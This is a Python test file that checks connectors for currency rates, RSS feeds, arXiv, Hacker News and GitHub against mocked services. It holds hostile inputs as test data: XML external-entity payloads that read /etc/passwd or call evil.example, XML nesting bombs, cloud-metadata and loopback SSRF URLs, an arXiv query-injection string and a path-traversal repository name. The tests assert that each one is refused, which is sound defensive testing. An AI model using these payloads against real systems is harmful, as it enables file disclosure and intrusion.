"""Rates, feeds, papers, stories and issues: asked through the toolbox, answered by a handler under the guard."""

from collections.abc import Callable
from typing import Any

import httpx
import pytest
from pydantic import SecretStr

from trimtab.connect import ConnectOptions, Connector, Effect, Toolbox, ToolError
from trimtab.connect.cassettes.playing import asked_url, without_network
from trimtab_connectors import arxiv, currency, feeds, github, hackernews
from trimtab_connectors.xml_feed import NotAFeed, parse

Answer = Callable[[httpx.Request], httpx.Response]


def toolbox_for(connector: Connector, answer: Answer, secret: Any = lambda name: None) -> Toolbox:
    """The service is a handler, under the guard that checks hosts and addresses."""
    options = ConnectOptions(below=lambda: httpx.MockTransport(answer), resolver=without_network, secret=secret)
    toolbox = Toolbox(options)
    toolbox.add(connector)
    return toolbox


async def test_money_is_named_as_people_name_it() -> None:
    asked: list[str] = []

    def rates(request: httpx.Request) -> httpx.Response:
        asked.append(asked_url(request))
        query = request.url.params
        row = {"date": "2026-11-20", "base": query["base"], "quote": query["quotes"], "rate": 157.5}
        return httpx.Response(200, json=[row])

    toolbox = toolbox_for(currency.connector, rates)
    outcome = await toolbox.call("currency.convert", {"source": "US dollars", "target": "yen", "amount": 1000})
    assert outcome.answer == "1,000 USD is 157,500 JPY, at the reference rate of 2026-11-20."
    assert asked == ["https://api.frankfurter.dev/v2/rates?base=USD&quotes=JPY"]
    await toolbox.call("currency.convert", {"source": "usd", "target": "JPY", "amount": 3})
    assert len(asked) == 1, "the rate is good for an hour"
    for source, told in (("yen", "two different ones"), ("thalers", "not a currency that is known")):
        with pytest.raises(ToolError, match=told):
            await toolbox.call("currency.convert", {"source": source, "target": "yen"})


def nested(depth: int) -> bytes:
    return b"<rss><channel>" + b"<a>" * depth + b"</a>" * depth + b"</channel></rss>"


@pytest.mark.parametrize(
    ("document", "why"),
    [
        (b'<!DOCTYPE r [<!ENTITY a "b">]><rss><channel><title>&a;</title></channel></rss>', "entities"),
        (b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss><channel/></rss>', "entities"),
        (b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/x"> %p;]><rss/>', "entities"),
        (nested(100), "nested more than"),
        (nested(200_000), "nested more than"),
        (b"<rss><channel>" + b"<item/>" * 60_000 + b"</channel></rss>", "more than 50,000"),
        (b"<html><body/></html>", "neither RSS nor Atom"),
        (b"<rss/>", "no channel"),
        (b"<rss><channel>", "not well-formed"),
        (b"", "not well-formed"),
        (b"\xff\xfe\x00", "not well-formed"),
        (b'<?xml version="1.0" encoding="klingon"?><rss/>', "not well-formed"),
    ],
)
def test_a_hostile_feed_is_refused(document: bytes, why: str) -> None:
    with pytest.raises(NotAFeed, match=why):
        parse(document)


def test_old_and_odd_feeds_are_read() -> None:
    rdf = (
        b'<?xml version="1.0" encoding="ISO-8859-1"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
        b'xmlns="http://purl.org/rss/1.0/" xmlns:dc="http://purl.org/dc/elements/1.1/"><channel><title>Caf\xe9</title>'
        b"</channel><item><title>One</title><link>https://a.example/1</link><dc:date>2026-05-01T10:00:00+02:00</dc:date>"
        b"</item></rdf:RDF>"
    )
    feed = parse(rdf)
    assert feed.title == "Café"
    assert feed.entries[0].at is not None
    assert feed.entries[0].at.isoformat() == "2026-05-01T08:00:00+00:00"
    strange = parse(b"<rss><channel><item><title>&lt;b&gt;x</title><pubDate>soon</pubDate></item></channel></rss>")
    assert (strange.entries[0].title, strange.entries[0].at) == ("x", None)


async def test_a_feed_on_a_private_address_is_not_opened() -> None:
    toolbox = toolbox_for(feeds.connector, lambda request: httpx.Response(500))
    for url in ("http://127.0.0.1/feed", "http://169.254.169.254/latest", "file:///etc/passwd", "https://[::1]/x"):
        with pytest.raises(ToolError):
            await toolbox.call("feeds.latest", {"url": url})


async def test_words_for_arxiv_are_words_and_not_its_query_language() -> None:
    asked: list[str] = []

    def papers(request: httpx.Request) -> httpx.Response:
        asked.append(request.url.params["search_query"])
        return httpx.Response(200, content=b'<feed xmlns="http://www.w3.org/2005/Atom"></feed>')

    toolbox = toolbox_for(arxiv.connector, papers)
    outcome = await toolbox.call("arxiv.search", {"query": 'x") OR all:* ANDNOT (cat:cs', "author": "Müller"})
    assert asked == ["all:x AND all:all AND all:cat AND all:cs AND au:Müller"]
    assert "no paper" in outcome.answer
    with pytest.raises(ToolError, match="not an arXiv number"):
        await toolbox.call("arxiv.paper", {"id": "https://evil.example/abs/1706.03762?x=1"})


async def test_comments_come_without_markup_and_deleted_ones_not_at_all() -> None:
    said = {"id": 2, "author": "a", "text": "see <a href='x'>this</a><p>now"}
    item = {"id": 1, "title": "T", "points": 3, "children": [said, {"id": 3, "author": None, "text": None}]}
    toolbox = toolbox_for(hackernews.connector, lambda request: httpx.Response(200, json=item))
    outcome = await toolbox.call("hackernews.discussion", {"item": "1"})
    assert outcome.data["comments"] == ["a: see this now"]


async def test_github_reads_without_a_token_and_writes_with_one_once() -> None:
    seen: list[tuple[str, str, str | None]] = []

    def service(request: httpx.Request) -> httpx.Response:
        token = request.headers.get("authorization")
        seen.append((request.method, request.url.path, token))
        if request.method == "POST" and token:
            return httpx.Response(503)
        if request.url.path == "/search/code" and not token:
            return httpx.Response(401, json={"message": "Requires authentication"})
        if request.url.path.startswith("/search"):
            return httpx.Response(403, json={}, headers={"x-ratelimit-remaining": "0"})
        return httpx.Response(404, json={"message": "Not Found"})

    toolbox = toolbox_for(github.connector, service)
    effects = {tool.name.partition(".")[2]: tool.info.effect for tool in toolbox.connector("github").tools}
    assert effects.pop("create_issue") is Effect.WRITE
    assert set(effects.values()) == {Effect.READ}
    for tool, arguments, told in (
        ("search_code", {"query": "x"}, "Set GITHUB_TOKEN"),
        ("search_issues", {"query": "x"}, "budget of requests is used up"),
        ("issue", {"repository": "a/b", "number": 1}, "there is none"),
        ("read_file", {"repository": "a/..", "path": "x"}, "not a repository"),
    ):
        with pytest.raises(ToolError, match=told):
            await toolbox.call(f"github.{tool}", arguments)
    signed = toolbox_for(github.connector, service, lambda name: SecretStr("t0ken-of-the-test"))
    seen.clear()
    with pytest.raises(ToolError, match="503") as caught:
        await signed.call("github.create_issue", {"repository": "a/b", "title": "Typo here"})
    assert seen == [("POST", "/repos/a/b/issues", "Bearer t0ken-of-the-test")]
    assert "t0ken" not in caught.value.message
